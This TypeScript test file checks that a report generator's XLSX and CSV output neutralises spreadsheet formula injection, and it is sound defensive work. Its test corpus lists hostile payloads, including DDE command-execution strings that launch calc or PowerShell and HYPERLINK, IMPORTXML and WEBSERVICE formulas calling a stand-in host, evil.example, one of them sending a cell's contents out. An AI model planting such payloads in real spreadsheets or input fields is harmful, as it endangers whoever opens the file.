import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type {
  Block,
  Cell,
  CellFormat,
  ReportDocument,
  Table,
  TableColumn,
} from '../../src/core/define/report.ts'
import { renderCsv } from '../../src/report/files/csv.ts'
import { renderXlsx } from '../../src/report/xlsx/xlsx.ts'
import { parseCsv, withoutGuards } from '../report/files/parse-csv.ts'
import { readZip } from '../report/xlsx/read-zip.ts'

/** What a person could call himself, to have a formula run at whoever opens a report. */
const CORPUS = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/c calc";"x")',
  "=2+5+cmd|'/c powershell'!A0",
  '+1+1',
  '+cmd|x!A0',
  '+14155550100',
  '-1+1',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2003=1+1',
  '\u3000-1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' ＝1',
  "'=1+1",
  "''=1",
  '"=1+1"',
  '";=1+1;"',
  'a\n=1+1',
  'a,=1+1',
  'a;=1+1\t=2',
  '%0A=1+1',
  '\0=1+1',
  '=1+1\u202e',
  '==1',
  '=\n1',
]
const DANGEROUS = CORPUS.filter((text) => !/^(?:"|a|%)/.test(text))

let directory: string
let parts: Map<string, string>
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'callsheet-formula-'))
  await renderXlsx(document(), join(directory, 'a.xlsx'))
  await renderCsv(table(), join(directory, 'a.csv'))
  parts = readZip(await readFile(join(directory, 'a.xlsx')))
})
afterAll(() => rm(directory, { recursive: true }))

describe('hostile text in every kind of block', () => {
  it('is a set of at least 40 texts, at least 32 of them dangerous', () => {
    expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(40)
    expect(DANGEROUS.length).toBeGreaterThanOrEqual(32)
  })

  it('creates no formula, no external link and no external reference in the workbook', () => {
    const all = [...parts.values()].join('\n')
    expect(all).not.toMatch(/<f[ >/]/)
    expect(all).not.toMatch(/ddeLink|externalLink|TargetMode="External"/)
    const links = [...all.matchAll(/<hyperlink [^>]*>/g)].map(([link]) => link)
    expect(links.filter((link) => !link.includes('location="'))).toEqual([])
  })

  it('is stored as a string in every cell, with a quote prefix if it looks like a formula', () => {
    const formats = [...(parts.get('xl/styles.xml') ?? '').matchAll(/<xf [^>]*>/g)]
      .map(([xf]) => xf)
      .filter((xf) => xf.includes(' xfId='))
    const read = new Map<string, number>()
    const unmarked: unknown[] = []
    for (const { sheet, place, type, style, text } of cellsOf(parts)) {
      const value = unescaped(text)
      if (!CORPUS.includes(value)) continue
      read.set(value, (read.get(value) ?? 0) + 1)
      expect(type).toMatch(/^(s|str|inlineStr)$/)
      const quoted = formats[style]?.includes('quotePrefix="1"') === true
      if (DANGEROUS.includes(value) && !quoted) unmarked.push({ sheet, place, value })
    }
    expect(unmarked).toEqual([])
    // A table, a note, the heads of two kinds of blocks and of a column, a figure, a chart.
    for (const text of CORPUS)
      expect({ text, enough: (read.get(text) ?? 0) >= COLUMNS.length + 12 }).toEqual({
        text,
        enough: true,
      })
  })

  it('is read back unchanged from the workbook, also from titles and notes', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(join(directory, 'a.xlsx'))
    const texts = workbook.worksheets.flatMap((sheet) => {
      const found: string[] = []
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
          found.push(cell.text)
        }),
      )
      return found
    })
    for (const text of CORPUS) expect(texts.filter((one) => one === text).length).toBeGreaterThan(5)
  })

  it('gets a leading apostrophe in the CSV if it looks like a formula, else stays unchanged', async () => {
    const rows = parseCsv(await readFile(join(directory, 'a.csv'), 'utf8'))
    expect(rows[0]?.[0]).toMatch(/^'=/)
    const cells = rows.slice(1).flat()
    expect(cells).toHaveLength(CORPUS.length * FORMATS.length)
    for (const [at, cell] of cells.entries()) {
      const value = CORPUS[Math.floor(at / FORMATS.length)] ?? ''
      expect([cell.startsWith("'"), withoutGuards(cell)]).toEqual([
        DANGEROUS.includes(value),
        value,
      ])
    }
  })
})

const FORMATS: readonly CellFormat[] = ['text', 'boolean', 'integer', 'percent', 'date', 'instant']

/** Every way in which a column can look. */
const TINTS = [undefined, 'quality', 'bad-share', 'delta', 'change', 'state'] as const
const COLUMNS: readonly TableColumn[] = TINTS.flatMap((tint) =>
  [...FORMATS, 'decimal' as const, 'seconds' as const].map((format) => ({
    name: `=${format}`,
    title: `=${format}`,
    format,
    ...(tint === undefined ? {} : { tint }),
  })),
)

function table(columns: readonly TableColumn[] = COLUMNS.slice(0, FORMATS.length)): Table {
  const rows = CORPUS.map((text): Cell[] => columns.map(() => text))
  return { kind: 'table', title: '=title', columns, rows }
}

/** Every block that there is with the text in every place that takes one. */
function blocksOf(text: string): Block[] {
  const figure = (format: CellFormat) => ({ label: text, value: text, before: text, format })
  const column = { name: text, title: text, format: 'text' } as const
  const series = [{ name: text, values: [1] }]
  return [
    { kind: 'note', tone: 'bad', text },
    { kind: 'figures', title: text, beforeLabel: text, figures: FORMATS.map(figure) },
    { kind: 'figures', title: text, figures: [{ label: text, value: text, format: 'text' }] },
    { kind: 'table', title: text, columns: [column], rows: [[text]] },
    { kind: 'table', title: text, columns: [column], rows: [], empty: text },
    {
      kind: 'chart',
      title: text,
      chart: { type: 'bar', categories: [text], series, valueFormat: 'integer' },
    },
  ]
}

function document(): ReportDocument {
  return {
    title: '=title',
    report: '=report',
    account: '=account',
    subtitle: '@subtitle',
    asOfMs: Date.UTC(2026, 10, 20),
    sections: [
      { title: '=cover', blocks: [] },
      { title: '+table', blocks: [table(COLUMNS)] },
      ...CORPUS.map((text) => ({ title: text, blocks: blocksOf(text) })),
    ],
  }
}

function cellsOf(from: ReadonlyMap<string, string>) {
  const shared = [...(from.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>.*?<\/si>/gs)].map(
    ([item]) => textOf(item),
  )
  const sheets = [...from].filter(([name]) => name.startsWith('xl/worksheets/sheet'))
  return sheets.flatMap(([sheet, xml]) =>
    [...xml.matchAll(/<c ([^>]*[^/])>(.*?)<\/c>/gs)].map(([, attributes = '', inner = '']) => {
      const place = /\br="(\w+)"/.exec(attributes)?.[1]
      const type = /\bt="(\w+)"/.exec(attributes)?.[1]
      const style = Number(/\bs="(\d+)"/.exec(attributes)?.[1] ?? 0)
      const text =
        type === 's' ? (shared[Number(/<v>(\d+)/.exec(inner)?.[1])] ?? '') : textOf(inner)
      return { sheet, place, type, style, text }
    }),
  )
}

function textOf(xml: string): string {
  const inner = [...xml.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map(([, text = '']) => text).join('')
  return inner
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;|&#39;/g, "'")
    .replace(/&amp;/g, '&')
}

function unescaped(text: string): string {
  return text.replace(/_x([0-9A-F]{4})_/g, (_, hex: string) =>
    String.fromCharCode(Number.parseInt(hex, 16)),
  )
}
